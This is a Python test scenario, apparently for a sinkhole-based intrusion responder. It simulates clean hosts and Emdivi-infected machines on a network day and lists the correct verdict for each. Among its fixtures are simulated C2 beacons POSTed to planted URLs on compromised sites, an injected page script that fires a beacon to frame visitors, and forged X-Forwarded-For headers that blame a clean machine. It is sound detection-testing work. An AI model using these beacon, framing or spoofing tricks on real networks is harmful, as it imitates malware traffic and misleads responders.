# SPDX-License-Identifier: BSD-3-Clause
"""Who is on the network that day: what each host truly is, which calls are right, and what it does.

A call is right if a responder who acts on it does no harm: no clean machine is INFECTED or LIKELY, a victim that did more
than ask is one of them. Where several calls would do, all stand here.
"""

from day import heads
from day.play import CLEAN, VICTIM, Actor
from harness.clients import BROWSER, BROWSER_ICON, EMDIVI_AGENT, PROFILE, emdivi, emdivi_field

# Listed URLs. A planted file is an intruder's; a plausible one may be a page of the site that was broken into.
PLANTED = "http://www.sekisan.biz/wp-content/plugins/akismet/state/index.php"
PLANTED_PATH = "/wp-content/plugins/akismet/state/index.php"
OTHER_PLANTED = ["http://www.arkhe-will.jp/blog/tokuhan/book/index.php", "http://www.a-masato.jp/html/mainland/index.php",
                 "http://www.katou-ai.com/images/fuck/index.php"]
PLAUSIBLE = ["http://www.sakura-farm.com/blog/index.php", "http://www.iandeye.co.jp/blog/2014/index.php"]
FRONT = "http://www.ims.gr.jp/"
NAMES = ["www.kaerunote.com", "www.muku-mori.com", "www.a-masato.jp", "www.sofurin.or.jp", "www.turitengu.jp",
         "www.motoavanti.com", "www.skyworld.co.jp", "www.iandeye.co.jp", "www.katou-ai.com", "www.toko-ton.com"]

UNLISTED = "198.51.100.77"  # of the pool, but no campaign's
TRUSTED_PROXY, UNLISTED_PROXY, OTHER_UNLISTED_PROXY = "10.0.0.9", "10.0.0.19", "10.0.0.29"
FORWARDER, NAMED_FORWARDER = "10.0.0.53", "10.0.0.54"
FRAMED = "10.20.3.31"
BEHIND_PROXIES = ("10.20.3.21", "10.20.3.22")  # people, whose proxy is not listed
MAIL_GATEWAY, SANDBOX, OWN_SCANNER = "10.0.0.25", "10.0.0.66", "10.0.0.77"
ROLES = [
    {"networks": [MAIL_GATEWAY + "/32"], "role": "mail-gateway"},
    {"networks": [SANDBOX + "/32"], "role": "sandbox"},
    {"networks": [OWN_SCANNER + "/32"], "role": "scanner"},
    {"networks": [NAMED_FORWARDER + "/32"], "role": "forwarder"},
]

EMDIVI = ("POST", [f"User-Agent: {EMDIVI_AGENT}", "Connection: Keep-Alive", "Cache-Control: no-cache"])
IE_OF_ITS_TIME = ("GET", [f"User-Agent: {EMDIVI_AGENT}", "Accept: */*", "Connection: Keep-Alive"])
CHROMIUM = ("GET", BROWSER)
BEACON = emdivi([("id", "HOST01"), ("x", PROFILE)])

ACTORS = []


def clean(what, *right, **options):
    return actor(what, CLEAN, right, **options)


def victim(what, *right, **options):
    return actor(what, VICTIM, right, **options)


def actor(what, truth, right, **options):
    def register(does):
        number = len(ACTORS)
        options["address"] = options.get("address") or f"10.20.{number // 200 + 1}.{number % 200 + 11}"
        ACTORS.append(Actor(what, truth, right, does, **options))
        return does

    return register


# People


@clean("a person clicks on a planted URL (Chromium)", "PERSON")
def _(host):
    yield host.at(9, 12), lambda: host.chromium(PLANTED)


@clean("a person clicks on a planted URL (Firefox)", "PERSON")
def _(host):
    yield host.at(10, 3), lambda: host.firefox(PLANTED)


@clean("a person reads two listed sites, typed without http:// (Chromium)", "PERSON")
def _(host):
    yield host.at(12, 20), lambda: host.chromium(FRONT, "https://www.sakura-farm.com/", "http://www.sakura-farm.com/blog/index.php")


@clean("a person's Chromium asks hosts of its own at the sinkhole", "PERSON")
def _(host):
    def browses():
        sink = host.ask("www.ims.gr.jp", "HTTPS", "A", "AAAA")
        host.request(FRONT, CHROMIUM, to=sink)
        host.request("http://clients2.google.com/time/1/current", heads.CHROMIUM_TIME, to=sink)
        host.request("http://update.googleapis.com/service/update2/json", heads.CHROMIUM_UPDATER, '{"request":{}}', to=sink)
    yield host.at(13, 41), browses


@clean("a foreign page sends a beacon from a person's Chromium", "POSSIBLE")
def _(host):
    yield host.at(14, 2), lambda: host.chromium(host.foreign_page(planted_beacon()), names=["www.kaerunote.com"])


@clean("a foreign page sends a beacon from a person's Firefox", "POSSIBLE")
def _(host):
    yield host.at(14, 40), lambda: host.firefox(host.foreign_page(planted_beacon()))


@clean("a page left open at work loads a planted URL in a frame every 20 minutes (a browser's headers)", "POSSIBLE")
def _(host):
    yield from host.every(20, 8, 18, lambda: host.request(PLANTED, CHROMIUM))


def from_internet_explorer(what, head, minute):
    @clean(f"a foreign page over https posts a beacon and a form from {what}", "POSSIBLE")
    def _(host):
        yield host.at(15, minute), lambda: host.request(PLANTED, head, emdivi_field("abc", PROFILE))
        yield host.at(15, minute + 1), lambda: host.request(PLANTED, head, "name=Sato&tel=1")


from_internet_explorer("Internet Explorer mode", heads.IE_MODE_FORM, 31)
from_internet_explorer("a program's Internet Explorer control", heads.IE_CONTROL_FORM, 41)


def planted_beacon():
    """A page of an attacker who wants its visitors on the list of infected machines."""
    field = emdivi_field("abc", PROFILE)
    return f"<script>fetch('http://www.kaerunote.com/', {{method: 'POST', mode: 'no-cors', body: '{field}'}}).catch(() => 0)</script>"


@clean("a forum's page shows a planted URL as a picture (Chromium)", "PERSON", "POSSIBLE")
def _(host):
    page = f"<img src='{PLANTED}'><img src='{OTHER_PLANTED[0]}'>"
    yield host.at(15, 10), lambda: host.chromium(host.foreign_page(page), names=["www.sekisan.biz", "www.arkhe-will.jp"])


@clean("a person behind the trusted proxy clicks on a planted URL (Chromium, Squid)", "PERSON")
def _(host):
    yield host.at(10, 45), lambda: host.chromium(PLANTED, proxy=TRUSTED_PROXY)


@clean("a person behind the trusted proxy opens an https address of a listed host (Chromium, Squid)",
       "PERSON", "POSSIBLE", "-", behind=True)
def _(host):
    yield host.at(11, 5), lambda: host.chromium("https://www.sekisan.biz/", proxy=TRUSTED_PROXY)


@clean("six people behind one address read listed pages during the day", "PERSON")
def _(host):
    def reads(url):
        sink = host.ask(url.split("/")[2], "HTTPS", "A", "AAAA")
        host.request(url, CHROMIUM, to=sink)
        host.request(url.rpartition("/")[0] + "/favicon.ico", heads.with_headers(BROWSER_ICON), to=sink, more=[f"Referer: {url}"])
    for hour, minute in ((8, 58), (9, 31), (9, 33), (11, 47), (12, 10), (12, 14), (13, 2), (15, 26), (16, 50), (17, 21)):
        yield host.at(hour, minute), lambda url=host.random.choice([FRONT, PLANTED, *PLAUSIBLE]): reads(url)


@clean("an administrator asks with nslookup", "POSSIBLE")
def _(host):
    yield host.at(11, 11), lambda: host.ask("www.sekisan.biz", "A", "AAAA")


@clean("a browser looks a link up before anybody clicks", "POSSIBLE")
def _(host):
    yield host.at(11, 12), lambda: host.ask("www.kaerunote.com", "HTTPS", "A", "AAAA")


# Programs that follow links


@clean("an RSS reader polls two plausible pages every half an hour at work (newsboat)", "POSSIBLE")
def _(host):
    def polls():
        home = host.workstation.home
        (home / "urls").write_text("\n".join(PLAUSIBLE) + "\n")
        host.run("newsboat", "-u", home / "urls", "-c", home / "cache.db", "-C", "/dev/null", "-x", "reload")
    yield from host.every(30, 8, 18, polls)


@clean("a document with a planted link is opened (Word)", "POSSIBLE")
def _(host):
    def opens():
        sink = host.ask("www.sekisan.biz")
        host.request("http://www.sekisan.biz/wp-content/plugins/akismet/state/", heads.OFFICE_DISCOVERY, to=sink)
        host.request(PLANTED, heads.OFFICE_EXISTENCE, to=sink)
        host.request(PLANTED, heads.OFFICE_GET, to=sink)
    yield host.at(9, 40), opens


@clean("a mail with a planted picture is opened (Outlook)", "POSSIBLE")
def _(host):
    def opens():
        sink = host.ask("www.sekisan.biz")
        host.request(PLANTED, heads.OUTLOOK_PICTURE, to=sink)
        host.request(PLANTED, heads.OUTLOOK, to=sink)
    yield host.at(9, 2), opens


@clean("a planted link is opened as a folder (Windows' WebDAV)", "POSSIBLE")
def _(host):
    def opens():
        sink = host.ask("www.sekisan.biz")
        host.request("http://www.sekisan.biz/", heads.MINIREDIR_OPTIONS, to=sink)
        host.request(PLANTED, heads.MINIREDIR_PROPFIND, to=sink)
    yield host.at(13, 15), opens


@clean("a planted link is opened as a folder (cadaver)", "POSSIBLE")
def _(host):
    yield host.at(13, 30), lambda: host.workstation.run("cadaver", PLANTED, input="quit\n")


@clean("a mail protection service looks at every link of the report", "POSSIBLE")
def _(host):
    def looks():
        for url in (PLANTED, *OTHER_PLANTED, *PLAUSIBLE):
            sink = host.ask(url.split("/")[2])
            host.request(url, heads.LINK_SCANNER_HEAD, to=sink)
            host.request(url, heads.LINK_SCANNER_GET, to=sink)
    yield host.at(8, 47), looks


def once(what, head, hour, minute, url=PLANTED):
    @clean(what, "POSSIBLE")
    def _(host):
        yield host.at(hour, minute), lambda: host.request(url, head)


once("a preview of a planted URL (Slackbot)", heads.SLACKBOT, 10, 20)
once("a preview of a planted URL (WhatsApp)", heads.WHATSAPP, 12, 33)
once("a preview of a planted URL (Teams)", heads.TEAMS, 16, 4)
once("an administrator's PowerShell at a planted URL", heads.POWERSHELL, 14, 21)
once("an administrator's script at a planted URL (WinHTTP)", heads.WINHTTP, 14, 25)


@clean("a download of a planted URL (BITS)", "POSSIBLE")
def _(host):
    def loads():
        sink = host.ask("www.sekisan.biz")
        host.request(PLANTED, heads.BITS_HEAD, to=sink)
        host.request(PLANTED, heads.BITS_GET, to=sink)
    yield host.at(15, 55), loads


@clean("an analyst at a planted URL, once (curl)", "POSSIBLE")
def _(host):
    yield host.at(16, 12), lambda: host.run("curl", "-sS", "--max-time", 10, PLANTED)


@clean("an analyst at a planted URL, once (wget)", "POSSIBLE")
def _(host):
    yield host.at(16, 20), lambda: host.run("wget", "-q", "-O", "-", "--timeout=10", "--tries=1", PLANTED)


@clean("an analyst at a planted URL, once (python requests)", "POSSIBLE")
def _(host):
    yield host.at(16, 31), lambda: host.run("python3", "-c", f"import requests; requests.get({PLANTED!r}, timeout=10)")


@clean("an analyst at a planted URL, once (python httpx)", "POSSIBLE")
def _(host):
    yield host.at(16, 42), lambda: host.run("python3", "-c", f"import httpx; httpx.get({PLANTED!r}, timeout=10)")


@clean("an analyst at a plausible URL, once (python urllib)", "POSSIBLE")
def _(host):
    yield host.at(16, 48), lambda: host.run(
        "python3", "-c", f"import urllib.request as r; r.urlopen({PLAUSIBLE[0]!r}, timeout=10)")


@clean("a program at a planted URL, once (Java)", "POSSIBLE")
def _(host):
    # The one tool of a Java runtime that fetches a URL: it looks for a list of revoked certificates there.
    yield host.at(16, 55), lambda: host.run("keytool", "-printcrl", "-file", PLANTED)


@clean("a responder tries each URL of the report once (curl)", "POSSIBLE")
def _(host):
    def tries():
        for url in (PLANTED, *OTHER_PLANTED, *PLAUSIBLE):
            host.run("curl", "-sS", "--max-time", 10, url)
    yield host.at(17, 3), tries


@clean("a preview of three https links in one message (a program's TLS)", "POSSIBLE")
def _(host):
    def looks():
        for name in NAMES[:3]:
            host.tls(name)
    yield host.at(17, 8), looks


# Machines that work for others


@clean("the mail gateway looks at links (role)", "RELAY", address=MAIL_GATEWAY)
def _(host):
    for hour in (8, 11, 15):
        for url in (PLANTED, *PLAUSIBLE):
            yield host.at(hour, 5), lambda url=url: host.request(url, heads.LINK_SCANNER_HEAD)


@clean("a sandbox lets malware call (role)", "SCANNER", address=SANDBOX)
def _(host):
    for hour in (3, 13):
        yield host.at(hour, 30), lambda: host.request(PLANTED, EMDIVI, BEACON)


@clean("the own vulnerability scanner (role)", "SCANNER", address=OWN_SCANNER)
def _(host):
    def scans():
        sink = host.ask("www.sekisan.biz")
        host.request(PLANTED, heads.agent("Nessus"), to=sink)
        host.request("http://www.sekisan.biz/.env", heads.agent("Nessus"), to=sink)
    yield host.at(2, 0), scans


@clean("a port scanner without a role (nmap)", "SCANNER", "POSSIBLE")
def _(host):
    yield host.at(22, 10), lambda: host.run(
        "nmap", "-sT", "-sV", "--version-intensity", "0", "-Pn", "-n", "-T5", "--host-timeout", "20s", "-p80,8080",
        "--script", "http-headers,http-title", host.ask("www.kaerunote.com"))


@clean("a web scanner without a role (the name and paths of nuclei)", "SCANNER")
def _(host):
    def scans():
        for path in (".env", ".git/config", "wp-login.php", "actuator/health", "server-status"):
            host.request(f"http://{UNLISTED}/{path}", heads.NUCLEI, to=UNLISTED)
    yield host.at(22, 40), scans


@clean("the trusted proxy (Squid)", "RELAY", address=TRUSTED_PROXY)
def _(host):
    return ()


@clean("an unlisted proxy of people (Squid)", "RELAY", "PERSON", "POSSIBLE", address=OTHER_UNLISTED_PROXY)
def _(host):
    def browses(client):
        words = [word for header in BROWSER for word in ("-H", header)]
        host.day.workstation(client).run("curl", "-sS", "-x", f"http://{OTHER_UNLISTED_PROXY}:3128", "--max-time", 10, *words, FRONT)
    yield host.at(9, 50), lambda: browses(BEHIND_PROXIES[0])
    yield host.at(15, 2), lambda: browses(BEHIND_PROXIES[1])


@clean("a validating forwarder, without a role (Unbound)", "RELAY", address=FORWARDER)
def _(host):
    for number, name in enumerate(NAMES):
        client = f"10.30.0.{number + 1}"
        yield host.at(8 + number, 23), lambda name=name, client=client: host.day.ask_through(FORWARDER, client, name)


@clean("a forwarder with its role", "RELAY", address=NAMED_FORWARDER)
def _(host):
    for number, name in enumerate(NAMES[:4]):
        yield host.at(9 + number, 5), lambda name=name: host.ask(name)


# Victims


@victim("sends beacons every half an hour (body)", "INFECTED")
def _(host):
    yield from host.every(30, 8, 18, lambda: host.request(PLANTED, EMDIVI, BEACON), wobble=2)


@victim("sends a beacon in a cookie", "INFECTED")
def _(host):
    yield from host.every(60, 9, 12, lambda: host.request(PLANTED, IE_OF_ITS_TIME, more=["Cookie: " + BEACON]), wobble=1)


@victim("sends a beacon to a listed host, not to a listed URL", "INFECTED")
def _(host):
    yield host.at(18, 33), lambda: host.request("http://www.kaerunote.com/", EMDIVI, BEACON)


@victim("sends a beacon over IPv6 alone", "INFECTED", address="2001:db8:10::7")
def _(host):
    yield host.at(19, 20), lambda: host.request(PLANTED, EMDIVI, BEACON)


@victim("a person reads a listed page, the malware sends its beacon at night", "INFECTED")
def _(host):
    yield host.at(10, 15), lambda: host.request(FRONT, CHROMIUM)
    yield host.at(23, 40), lambda: host.request(PLANTED, EMDIVI, BEACON)


@victim("two infected machines behind one address", "INFECTED")
def _(host):
    for number, profile in enumerate((PROFILE, PROFILE.replace("Koitochu", "Houjin").replace("2048M", "4096M"))):
        yield from host.every(90, 9, 17, lambda profile=profile: host.request(PLANTED, EMDIVI, emdivi([("x", profile)])), wobble=20)


@victim("sends beacons through the trusted proxy (Squid)", "INFECTED")
def _(host):
    yield from host.every(120, 9, 17, lambda: through(host, TRUSTED_PROXY), wobble=3)


@victim("sends beacons through an unlisted proxy (Squid): the proxy's row", "INFECTED", "LIKELY", address=UNLISTED_PROXY)
def _(host):
    return ()


@victim("sends beacons through an unlisted proxy (Squid): the claimed host's row", "INFECTED", "LIKELY", "POSSIBLE", behind=True)
def _(host):
    yield from host.every(120, 9, 17, lambda: through(host, UNLISTED_PROXY), wobble=3)


def through(host, proxy):
    host.run("curl", "-sS", "-x", f"http://{proxy}:3128", "--max-time", 10, "-A", EMDIVI_AGENT, "-H", "Content-Type:", "-H", "Accept:",
             "--data-binary", BEACON, PLANTED)


@victim("sends beacons that it claims to pass on for a clean machine", "INFECTED", "LIKELY")
def _(host):
    forged = [f"X-Forwarded-For: {FRAMED}", "Via: 1.1 proxy.example (squid/5.7)"]
    yield from host.every(60, 10, 16, lambda: host.request(PLANTED, EMDIVI, BEACON, more=forged), wobble=1)


@clean("is named by an infected machine as the sender of its beacons", "POSSIBLE", "-", behind=True, address=FRAMED)
def _(host):
    return ()


@victim("posts to a planted URL what does not decode", "INFECTED", "LIKELY")
def _(host):
    yield from host.every(45, 9, 15, lambda: host.request(PLANTED, EMDIVI, "a=" + "7" * 64), wobble=2)


@victim("calls a planted path at the sinkhole without naming the host", "INFECTED", "LIKELY")
def _(host):
    def calls():
        sink = host.ask("www.sekisan.biz")
        host.request(f"http://{sink}{PLANTED_PATH}", IE_OF_ITS_TIME, to=sink)
    yield from host.every(60, 9, 17, calls, wobble=1)


@victim("calls a planted URL hourly at night with a browser's headers (17 times)", "INFECTED", "LIKELY")
def _(host):
    def calls():
        host.request(PLANTED, CHROMIUM)
    yield from host.every(60, 0, 8, calls, wobble=1)
    yield from host.every(60, 15, 24, calls, wobble=1)


@victim("calls a planted URL every 40 minutes as 'WinHTTP nmap'", "INFECTED", "LIKELY")
def _(host):
    yield from host.every(40, 1, 20, lambda: host.request(PLANTED, heads.agent("WinHTTP nmap")), wobble=2)


@victim("calls a planted URL hourly (python httpx)", "INFECTED", "LIKELY")
def _(host):
    call = host.loop("import httpx; httpx.get(url, timeout=10)")
    yield from host.every(60, 6, 22, lambda: call(PLANTED), wobble=1)


@victim("posts to two plausible URLs in turn every half an hour", "INFECTED", "LIKELY")
def _(host):
    for number, url in enumerate(PLAUSIBLE):
        yield from host.every(60, 8 + number / 2, 20, lambda url=url: host.request(url, EMDIVI, "a=b"), wobble=2)


@victim("calls a planted URL once (WinHTTP): nothing tells it from the administrator's script", "POSSIBLE", "LIKELY", "INFECTED")
def _(host):
    yield host.at(18, 52), lambda: host.request(PLANTED, heads.WINHTTP)


@victim("begins TLS hourly for 16 hours", "LIKELY")
def _(host):
    yield from host.every(60, 5, 21, lambda: host.tls("www.kaerunote.com"), wobble=1)


@victim("begins TLS with four names, and a person opens one page", "LIKELY")
def _(host):
    for number, name in enumerate(NAMES[:4]):
        yield host.at(4 + number, 14), lambda name=name: host.tls(name)
    yield host.at(12, 3), lambda: host.request("http://www.kaerunote.com/", CHROMIUM)


@victim("speaks its own protocol to the sinkhole every half an hour", "LIKELY")
def _(host):
    yield from host.every(30, 8, 20, lambda: host.raw("www.kaerunote.com", 8080, b"\x05\x01\x00\x17\x2a\x00host01\x00\xff"), wobble=1)


@victim("asks for a listed name alone every 20 to 40 minutes for 16 hours", "POSSIBLE", only_asks=True)
def _(host):
    minute = 4 * 60
    while minute < 20 * 60:
        yield minute, lambda: host.ask("www.kaerunote.com", "A")
        minute += host.random.uniform(20, 40)
